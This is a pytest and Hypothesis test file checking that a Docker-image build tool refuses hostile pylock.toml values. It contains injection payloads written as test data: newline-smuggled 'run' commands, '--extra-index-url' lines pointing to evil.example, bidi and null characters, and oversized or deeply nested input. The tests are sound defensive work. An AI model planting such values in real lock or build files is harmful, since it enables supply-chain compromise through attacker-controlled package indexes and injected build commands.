"""A lock is untrusted input: a hostile `images/<id>/pylock.toml` stops render (exit 2), writes
nothing, and never reaches a rendered file.

Each case edits the committed lock of a leaf image, whose inputs do not change, so the lock
stays "fresh": before the strict model, `render --check` stayed green and `render` copied the
value into the Dockerfile or a `groups/*.txt` that uv reads.
"""

from __future__ import annotations

import dataclasses
import functools
import json
import re
from collections.abc import Callable
from pathlib import Path

import dockerfile
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from packaging.version import Version

from tests.unit.hostileutil import LEAF, REPO, copy_project, run_cli, tree
from torchstack.config.kinds import normalize
from torchstack.config.matrix import load_matrix
from torchstack.config.model import ImageSpec, Matrix
from torchstack.errors import ConfigError
from torchstack.lock.pylock import ImageLock, lock_path, parse_lock, read_lock, write_lock
from torchstack.render.dockerfile import render_context

OLD_WHEEL = "sentencepiece-0.1.0-cp311-cp311-manylinux_2_28_x86_64.whl"
MIB = 1 << 20  # docs/locks.md: a lock is at most 1 MiB
SP_VERSION = 'name = "sentencepiece"\nversion = "0.2.1"\n'
SP_WHEEL = "sentencepiece-0.2.1-cp311-cp311-manylinux_2_27_x86_64.manylinux_2_28_x86_64.whl"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return copy_project(tmp_path / "project")


def lock_file(project: Path) -> Path:
    return project / "images" / LEAF / "pylock.toml"


def replace(old: str, new: str) -> Callable[[str], str]:
    def edit(text: str) -> str:
        assert old in text, old
        return text.replace(old, new, 1)
    return edit


def test_a_package_name_with_a_newline_is_refused_and_nothing_is_written(
        project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Finding 1: the name ended the `# Layer group` comment and BuildKit parsed a `run`."""
    path = lock_file(project)
    path.write_text(replace('name = "sentencepiece"',
                            'name = "aaa\\nrun echo INJECTED > /etc/motd #"')(path.read_text()))
    before = tree(project)
    for argv in (["render"], ["render", "--check"]):
        code, err = run_cli(capsys, "--matrix", str(project / "matrix.yaml"), *argv)
        assert code == 2, err
        assert f"images/{LEAF}/pylock.toml:" in err and "PEP 503" in err
        assert "\\n" in err  # the newline is shown, not printed
    assert tree(project) == before


def test_a_version_carrying_an_index_option_is_refused_and_nothing_is_written(
        project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Finding 2: the version became an `--extra-index-url` line in groups/*.txt."""
    path = lock_file(project)
    path.write_text(replace('version = "0.2.1"',
                            'version = "0.2.1\\n--extra-index-url http://evil.example/simple"')(
        path.read_text()))
    before = tree(project)
    code, err = run_cli(capsys, "--matrix", str(project / "matrix.yaml"), "render")
    assert code == 2, err
    assert "(sentencepiece): the version" in err and "PEP 440" in err
    assert tree(project) == before
    group = (project / "images" / LEAF / "groups" / "01-nlp.txt").read_text()
    assert "--extra-index-url" not in group


CASES: dict[str, tuple[Callable[[str], str], str]] = {
    # `re.match("^...$")` let a trailing newline through.
    "sha256 + newline": (replace("4f5a3e0d9f445ed9d66c0fec47d4b23d12cfc858b407a03c194c1b26c2ac2a63",
                                 "4f5a3e0d9f445ed9d66c0fec47d4b23d12cfc858b407a03c194c1b26c2ac2a63"
                                 "\\n"), "sha256"),
    "version with a space": (replace('version = "0.2.1"', 'version = " 0.2.1"'), "normal form"),
    "version not PEP 440": (replace('version = "0.2.1"', 'version = "0.2.1;id"'), "PEP 440"),
    "name not normalised": (replace('name = "sentencepiece"', 'name = "SentencePiece"'),
                            "PEP 503"),
    "url over http elsewhere": (replace("https://files.pythonhosted.org/packages/ef",
                                        "http://evil.example/packages/ef"), "neither https"),
    "url names another wheel": (replace(f"/{SP_WHEEL}\"",
                                        "/evil-0.2.1-cp311-cp311-manylinux_2_28_x86_64.whl\""),
                                "is not the url's file"),
    "wheel of another version": (replace(f'name = "{SP_WHEEL}", url = "https://files'
                                         f'.pythonhosted.org/packages/ef/66/fb191403ade791ad2c3c1e'
                                         f'72fe8413e63781b08cfa3aa4c9dfc536d6e795/{SP_WHEEL}"',
                                         f'name = "{OLD_WHEEL}", url = "https://x.example/{OLD_WHEEL}"'),
                                 "is not sentencepiece 0.2.1"),
    "marker with a newline": (replace(SP_VERSION, SP_VERSION + "marker = \"python_version >="
                                      " '3'\\nRUN x\"\n"), "marker"),
    "bidi override in a marker": (replace(SP_VERSION, SP_VERSION + "marker = \"os_name =="
                                          " '\u202eposix'\"\n"), "marker"),
    "index with a newline": (replace('index = "https://pypi.org/simple"',
                                     'index = "https://pypi.org/simple\\nRUN x"'), "line break"),
    "pin that is not exact": (replace('"sentencepiece==0.2.1"', '"sentencepiece>=0.2"'),
                              "exact pin"),
    "huge size": (replace("size = 1387785", "size = 1" + "0" * 30), "size"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_hostile_lock_value_is_refused_naming_file_and_line(
        project: Path, capsys: pytest.CaptureFixture[str], case: str) -> None:
    edit, words = CASES[case]
    path = lock_file(project)
    path.write_text(edit(path.read_text(encoding="utf-8")), encoding="utf-8")
    before = tree(project)
    code, err = run_cli(capsys, "--matrix", str(project / "matrix.yaml"), "render")
    assert code == 2, err
    assert f"images/{LEAF}/pylock.toml:" in err and words in err, err
    assert "tip: run `torchstack lock" in err
    assert tree(project) == before


@pytest.mark.parametrize("content", [
    pytest.param(lambda lock: lock + "# \udcff not UTF-8\n".encode("utf-8", "surrogateescape"),
                 id="not-utf8"),
    pytest.param(lambda lock: lock + b"x = " + b"[" * 100_000 + b"]" * 100_000 + b"\n",
                 id="100000-deep"),
    pytest.param(lambda lock: lock + b"#" * MIB + b"\n", id="over-1MiB"),
])
def test_a_lock_that_is_not_a_small_utf8_document_is_refused(
        project: Path, capsys: pytest.CaptureFixture[str],
        content: Callable[[bytes], bytes]) -> None:
    """Each is a valid lock with something appended: only the bound can refuse it."""
    lock_file(project).write_bytes(content(lock_file(project).read_bytes()))
    before = tree(project)
    code, err = run_cli(capsys, "--matrix", str(project / "matrix.yaml"), "render")
    assert code == 2, err
    assert f"images/{LEAF}/pylock.toml" in err
    assert tree(project) == before


def test_a_symlinked_lock_is_neither_read_nor_written_through(
        project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    outside = tmp_path / "outside.toml"
    outside.write_bytes(lock_file(project).read_bytes())
    lock_file(project).unlink()
    lock_file(project).symlink_to(outside)
    matrix = load_matrix(project / "matrix.yaml")
    spec = matrix.by_id()[LEAF]
    with pytest.raises(ConfigError, match="symlink"):
        read_lock(matrix, spec)
    before = outside.read_bytes()
    code, err = run_cli(capsys, "--matrix", str(project / "matrix.yaml"), "render")
    assert code == 2 and "symlink" in err
    assert outside.read_bytes() == before


def test_write_lock_refuses_what_the_strict_model_refuses(project: Path) -> None:
    """A value from uv's output passes the same model before it is written."""
    matrix = load_matrix(project / "matrix.yaml")
    spec = matrix.by_id()[LEAF]
    lock = read_lock(matrix, spec)
    assert lock is not None
    bad = dataclasses.replace(lock, dists=tuple(
        dataclasses.replace(d, version="0.2.1\n--index-url http://evil.example")
        if d.name == "sentencepiece" else d for d in lock.dists))
    before = lock_path(matrix, spec).read_bytes()
    with pytest.raises(ConfigError, match="PEP 440"):
        write_lock(matrix, spec, bad)
    assert lock_path(matrix, spec).read_bytes() == before


def test_the_committed_locks_pass_the_strict_model() -> None:
    """The model is strict, not wrong: every lock in the repository reads."""
    matrix = load_matrix(REPO / "matrix.yaml")
    read = [read_lock(matrix, spec) for spec in matrix.images]
    assert sum(lock is not None for lock in read) == 3


# --- the property: a generated lock is refused, or renders only lines that passed -------------

FIELDS = ("name", "version", "url", "sha256", "size", "marker")
HOSTILE = st.lists(st.one_of(st.sampled_from([*"\n\r\t \"'\\#$=<>;,.-_+!/:@", "--hash", "RUN ",
                                              "\u200b", "\u202e", "\x00", "==", "%0a", "%2B",
                                              "https://", "http://evil.example/", ".whl",
                                              "sentencepiece", "0.2.1"]),
                             st.characters(codec="utf-8")), max_size=12).map("".join)


# Values the model must accept (so the rendering side is exercised too), per field.
BENIGN = {
    "sha256": st.from_regex(r"[0-9a-f]{64}", fullmatch=True),
    "size": st.integers(1, 2**40).map(str),
    "marker": st.sampled_from(["sys_platform == 'linux'", "python_version >= '3.9'",
                               "platform_machine == 'x86_64' and extra != 'x'"]),
}


def _mutations() -> st.SearchStrategy[tuple[int, str, str]]:
    hostile = st.tuples(st.integers(0, 60), st.sampled_from(FIELDS),
                        st.one_of(HOSTILE, st.sampled_from(["0.2.1", "0.2.1+cu128", "1!2.0",
                                                            "sentencepiece", "a" * 64,
                                                            "1" * 30])))
    benign = st.sampled_from(sorted(BENIGN)).flatmap(
        lambda field: st.tuples(st.integers(0, 60), st.just(field), BENIGN[field]))
    return st.one_of(hostile, benign)


def _mutate(text: str, index: int, field: str, value: str) -> str:
    """`text` with one field of the index-th [[packages]] entry set to `value`."""
    blocks = text.split("\n[[packages]]\n")
    i = 1 + index % (len(blocks) - 1)
    quoted = json.dumps(value)
    block = blocks[i]
    if field in ("name", "version"):
        block = re.sub(rf'^{field} = ".*"$', lambda _m: f"{field} = {quoted}", block, count=1,
                       flags=re.M)
    elif field == "marker":
        block = block.replace("\nwheels = ", f"\nmarker = {quoted}\nwheels = ", 1)
    elif field == "url":
        block = re.sub(r'url = "[^"]*"', lambda _m: f"url = {quoted}", block, count=1)
    elif field == "sha256":
        block = re.sub(r'sha256 = "[^"]*"', lambda _m: f"sha256 = {quoted}", block, count=1)
    elif field == "size":
        size = value if re.fullmatch(r"[0-9]{1,30}", value) else quoted
        block = re.sub(r"size = [0-9]+", lambda _m: f"size = {size}", block, count=1)
    blocks[i] = block
    return "\n[[packages]]\n".join(blocks)


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_mutations(), min_size=1, max_size=3))
def test_a_generated_lock_is_refused_or_renders_only_checked_lines(
        mutations: list[tuple[int, str, str]]) -> None:
    """Never a traceback. When the strict model accepts the lock, every requirement line is
    `name==version --hash=sha256:<64 hex>` of a checked name and version, and BuildKit reads the
    rendered Dockerfile as the same instructions as the committed one."""
    matrix, spec, parent, original, baseline = _lock_fixture()
    text = original
    for index, field, value in mutations:
        text = _mutate(text, index, field, value)
    try:
        lock = parse_lock(text, "pylock.toml", LEAF)
    except ConfigError as exc:
        assert exc.exit_code == 2 and exc.message.startswith("pylock.toml")
        event("refused")
        return
    event("rendered" if text != original else "rendered (unchanged)")
    files = render_context(spec, matrix, lock, parent)
    for name, body in files.items():
        if name.startswith("groups/"):
            for line in body.splitlines():
                match = REQUIREMENT.fullmatch(line)
                assert match, line
                assert normalize(match["name"]) == match["name"]
                assert str(Version(match["version"])) == match["version"]
    commands = [c.cmd for c in dockerfile.parse_string(files["Dockerfile"])]
    assert tuple(commands) == baseline


REQUIREMENT = re.compile(r"(?P<name>[a-z0-9](?:[a-z0-9-]*[a-z0-9])?)==(?P<version>[A-Za-z0-9.+!]+)"
                         r" --hash=sha256:[0-9a-f]{64}")


@functools.cache
def _lock_fixture() -> tuple[Matrix, ImageSpec, ImageLock, str, tuple[str, ...]]:
    """The leaf image, its parent's lock, its lock's text, and its Dockerfile's instructions."""
    matrix = load_matrix(REPO / "matrix.yaml")
    spec = matrix.by_id()[LEAF]
    parent = read_lock(matrix, matrix.by_id()[spec.parent_id or ""])
    assert parent is not None
    original = lock_path(matrix, spec).read_text(encoding="utf-8")
    rendered = render_context(spec, matrix, parse_lock(original, "x", LEAF), parent)
    baseline = tuple(c.cmd for c in dockerfile.parse_string(rendered["Dockerfile"]))
    return matrix, spec, parent, original, baseline
